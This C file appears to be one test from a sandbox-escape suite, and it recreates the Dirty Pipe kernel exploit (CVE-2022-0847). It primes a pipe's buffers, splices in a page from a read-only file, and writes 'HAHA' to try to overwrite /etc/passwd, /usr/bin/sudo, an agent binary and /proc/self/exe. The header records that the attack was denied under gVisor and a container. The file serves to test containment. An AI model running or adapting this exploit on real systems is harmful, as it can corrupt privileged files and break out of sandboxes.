// tries: Write to read-only files through pages that a pipe shares (as CVE-2022-0847, "Dirty Pipe", allowed).
// gvisor: denied
// container: denied
#include "verdict.h"
#include <sys/stat.h>

int main(void) {
    const char *files[] = {"/etc/passwd", "/.sandlot/agent", "/usr/bin/sudo", "/proc/self/exe"};
    for (int i = 0; i < 4; i++) {
        int file = open(files[i], O_RDONLY), ends[2];
        if (file < 0 || pipe(ends)) continue;
        static char fill[4096];
        int room = fcntl(ends[1], F_GETPIPE_SZ);
        for (int done = 0; done < room; done += 4096)
            if (write(ends[1], fill, 4096) != 4096) break;
        for (int done = 0; done < room; done += 4096)
            if (read(ends[0], fill, 4096) != 4096) break;
        char before[4], after[4];
        pread(file, before, 4, 1);
        long long offset = 0;
        if (syscall(SYS_splice, file, &offset, ends[1], NULL, 1, 0) < 1) continue;
        if (write(ends[1], "HAHA", 4) != 4) continue;
        pread(file, after, 4, 1);
        if (memcmp(before, after, 4)) escaped("%s was overwritten", files[i]);
    }
    denied("what the pipe holds is a copy");
}
